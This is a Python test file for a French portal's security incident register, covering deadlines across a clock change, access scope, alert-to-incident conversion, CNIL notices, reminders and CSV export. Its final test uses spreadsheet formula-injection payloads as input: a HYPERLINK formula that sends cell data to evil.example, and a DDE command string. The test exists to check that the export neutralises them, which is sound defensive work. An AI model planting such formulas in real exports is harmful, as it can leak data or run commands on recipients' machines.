"""The incident register: deadlines, scope, alerts turned into incidents, notices, reminders."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

import audit
from audit import AuditAction, AuditEvent
from portal.container import services
from portal.db import db
from portal.securite.incident_models import Incident
from portal.securite.incidents import send_incident_reminders
from portal.securite.models import SecurityAlert
from tests.conftest import audit_rows, csrf_of, reread
from tests.factories import OfficerWorld
from tests.securite.conftest import Emit
from tests.support.services import SmtpSink, body_of

# Saturday 24 October 2026, 10:00 in Paris (summer time); clocks go back on Sunday 25 at 03:00.
DETECTED = "2026-10-24T10:00"


def _declare(client: FlaskClient, **fields: str) -> str:
    """Post the register's form; returns the new incident's page."""
    data = {
        "kind": "violation",
        "title": "Comptes partenaires compromis",
        "detected_at": DETECTED,
        "departements": "62",
        "partner_notice_hours": "36",
        "description": "Connexions depuis un réseau inconnu.",
        **fields,
    }
    response = client.post(
        "/securite/incidents", data={"csrf_token": csrf_of(client, "/securite/incidents"), **data}
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return str(response.location)


def _only_incident(app: Flask) -> Incident:
    with app.app_context():
        found = db.session.execute(sa.select(Incident)).scalar_one()
        db.session.expunge_all()
        return found


def test_deadlines_count_elapsed_hours_across_a_weekend_and_the_clock_change(
    app: Flask, client: FlaskClient, world: OfficerWorld, login_as
) -> None:
    # Given the officer of 62 declares a breach detected on Saturday at 10:00 (summer time)
    login_as(world.officer62)
    page = client.get(_declare(client)).get_data(as_text=True)
    incident = _only_incident(app)
    # Then the partners' deadline is 36 elapsed hours later: Sunday at 21:00, winter time (not
    # 22:00 as a wall clock would say), and the CNIL's 72 hours later: Tuesday at 09:00
    assert incident.detected_at == datetime(2026, 10, 24, 8, 0, tzinfo=UTC)
    assert incident.partner_deadline == datetime(2026, 10, 25, 20, 0, tzinfo=UTC)
    assert incident.cnil_deadline == datetime(2026, 10, 27, 8, 0, tzinfo=UTC)
    assert "25/10/2026 à 21:00" in page and "27/10/2026 à 09:00" in page
    # And an outage has no CNIL deadline; a 48-hour convention moves the partners' one
    _declare(client, kind="indisponibilite", partner_notice_hours="48", title="Panne")
    with app.app_context():
        outage = db.session.execute(sa.select(Incident).where(Incident.number == 2)).scalar_one()
        assert outage.cnil_deadline is None
        assert outage.partner_deadline == datetime(2026, 10, 26, 8, 0, tzinfo=UTC)
    (row,) = audit_rows(app, AuditAction.INCIDENT_CREATED)[:1]
    assert row.actor_id == world.officer62.id and row.target_departement == "62"


def test_only_the_officers_of_the_scope_see_an_incident(
    app: Flask, client: FlaskClient, world: OfficerWorld, login_as
) -> None:
    login_as(world.officer62)
    url = _declare(client)
    incident = _only_incident(app)
    # Given officers of 59 and of France Travail 62, an agent, and the national officer
    for outsider in (world.officer59, world.agent62, world.gest62):
        login_as(outsider)
        # Then the page, the export and the list say nothing of it (404 or absent)
        assert client.get(url).status_code == 404
        assert client.get(url + "/export.csv").status_code == 404
        listing = client.get("/securite/incidents")
        assert listing.status_code == 404 or "Comptes partenaires" not in listing.get_data(
            as_text=True
        )
    for insider in (world.officer_ft62, world.officer_national):
        login_as(insider)
        assert client.get(url).status_code == 200
        assert f"n° {incident.number}" in client.get("/securite/incidents").get_data(as_text=True)
    # And the officer of 62 cannot declare an incident for 59
    login_as(world.officer62)
    refused = client.post(
        "/securite/incidents",
        data={
            "csrf_token": csrf_of(client, "/securite/incidents"),
            "kind": "activite_suspecte",
            "title": "Hors périmètre",
            "detected_at": DETECTED,
            "departements": "59",
            "partner_notice_hours": "36",
        },
    )
    assert "pour vos départements" in refused.get_data(as_text=True)


def test_an_alert_turned_into_an_incident_keeps_its_audit_rows(
    app: Flask, client: FlaskClient, world: OfficerWorld, emit: Emit, login_as
) -> None:
    # Given an alert of 62 raised on an audit row
    seq = emit(
        AuditAction.AUTH_MFA_REPLAY,
        world.agent62,
        target=audit.Target("user", world.agent62.id, "62"),
    )
    with app.app_context():
        alert = SecurityAlert(
            kind="mfa_replay",
            departement_code="62",
            organisation_id=world.org62,
            subject_type="user",
            subject_id=world.agent62.id,
            first_seen_at=datetime(2026, 11, 2, 9, 0, tzinfo=UTC),
            last_seen_at=datetime(2026, 11, 2, 9, 0, tzinfo=UTC),
            first_event_seq=seq,
            last_event_seq=seq,
        )
        db.session.add(alert)
        db.session.commit()
        alert_id = alert.id
    # When the officer of 59 tries to turn it into an incident, Then 404
    login_as(world.officer59)
    token = csrf_of(client, "/securite/incidents")
    assert (
        client.post(
            f"/securite/alertes/{alert_id}/incident", data={"csrf_token": token}
        ).status_code
        == 404
    )
    # When the officer of 62 does, in one step
    login_as(world.officer62)
    token = csrf_of(client, f"/securite/alertes/{alert_id}")
    response = client.post(f"/securite/alertes/{alert_id}/incident", data={"csrf_token": token})
    assert response.status_code == 302
    # (a second submit, a double click, leads to the same incident: none is created twice)
    again = client.post(f"/securite/alertes/{alert_id}/incident", data={"csrf_token": token})
    assert again.status_code == 302 and again.location == response.location
    assert len(audit_rows(app, AuditAction.INCIDENT_CREATED)) == 1
    # Then the incident is detected when the alert was first seen, in 62, and lists the row
    incident = _only_incident(app)
    assert incident.detected_at == datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
    assert incident.kind == "activite_suspecte" and incident.departements == {"62"}
    page = client.get(str(response.location)).get_data(as_text=True)
    assert "auth:mfa:replay" in page and f"<td>{seq}</td>" in page
    with app.app_context():
        assert db.session.execute(sa.select(AuditEvent).where(AuditEvent.seq == seq)).scalar_one()
    # And a row of 59 cannot be linked by the officer of 62
    other = emit(
        AuditAction.AUTH_LOGIN_SUCCESS,
        world.agent59,
        target=audit.Target("user", world.agent59.id, "59"),
    )
    link = client.post(
        str(response.location) + "/lien",
        data={"csrf_token": csrf_of(client, str(response.location)), "seq": str(other)},
    )
    assert "Entrée du journal inconnue" in link.get_data(as_text=True)


def test_notices_are_recorded_late_ones_flagged_and_exported_for_the_cnil(
    app: Flask, client: FlaskClient, world: OfficerWorld, login_as
) -> None:
    login_as(world.officer62)
    url = _declare(client)
    for kind, when, whom in (
        ("partenaires", "2026-10-25T18:30", "RSSI France Travail"),
        ("cnil", "2026-10-27T10:15", "CNIL, téléservice de notification"),
    ):
        response = client.post(
            url + "/notification",
            data={
                "csrf_token": csrf_of(client, url),
                "kind": kind,
                "sent_at": when,
                "recipients": whom,
            },
        )
        assert response.status_code == 302, response.get_data(as_text=True)[:1500]
    page = client.get(url).get_data(as_text=True)
    assert "notifié le 25/10/2026 à 18:30" in page  # on time (deadline 21:00)
    assert "notifié le 27/10/2026 à 10:15, en retard" in page  # after 09:00
    rows = audit_rows(app, AuditAction.INCIDENT_NOTICE_RECORDED)
    assert ['"late":false' in r.details for r in rows] == [True, False]
    export = client.get(url + "/export.csv")
    text = export.get_data(as_text=True)
    assert export.mimetype == "text/csv" and text.startswith("\ufeff")
    assert "échéance CNIL;27/10/2026 09:00" in text
    assert "notifié à la CNIL le;27/10/2026 10:15" in text
    assert "CNIL;27/10/2026 10:15;CNIL, téléservice de notification" in text


def test_officers_are_reminded_once_before_each_deadline_not_met(
    app: Flask, client: FlaskClient, world: OfficerWorld, smtp: SmtpSink, login_as
) -> None:
    login_as(world.officer62)
    url = _declare(client)
    smtp.clear()

    def remind(at: datetime) -> int:
        with app.app_context():
            return send_incident_reminders(db.session, services(), at, audit.NO_CONTEXT).reminders

    partner = datetime(2026, 10, 25, 20, 0, tzinfo=UTC)
    # 13 hours before the partners' deadline: nothing; 12 hours before: one reminder, once
    assert remind(partner - timedelta(hours=13)) == 0
    assert remind(partner - timedelta(hours=12)) == 1
    assert remind(partner - timedelta(hours=11)) == 0
    assert len(smtp.to(world.officer62.email)) == 1
    assert len(smtp.to(world.officer_national.email)) == 1
    assert smtp.to(world.officer59.email) == []
    body = body_of(smtp.to(world.officer62.email)[0])
    assert "25/10/2026 21:00" in body and "Comptes partenaires" not in body  # no free text
    # Once the CNIL notice is recorded, its deadline is not reminded
    client.post(
        url + "/notification",
        data={
            "csrf_token": csrf_of(client, url),
            "kind": "cnil",
            "sent_at": "2026-10-26T09:00",
            "recipients": "CNIL",
        },
    )
    assert remind(datetime(2026, 10, 26, 22, 0, tzinfo=UTC)) == 0
    assert reread(app, Incident, _only_incident(app).id).cnil_reminded_at is None
    assert len(audit_rows(app, AuditAction.INCIDENT_REMINDER_SENT)) == 1


def test_the_incident_export_never_holds_a_live_formula(
    client: FlaskClient, world: OfficerWorld, login_as
) -> None:
    login_as(world.officer62)
    url = _declare(client, title='=HYPERLINK("https://evil.example/?x="&A1;"clic")')
    response = client.post(
        url + "/notification",
        data={
            "csrf_token": csrf_of(client, url),
            "kind": "partenaires",
            "sent_at": "2026-10-25T18:30",
            "recipients": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:1500]
    text = client.get(url + "/export.csv").get_data(as_text=True)
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(cell.startswith("'@SUM") for cell in cells)
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
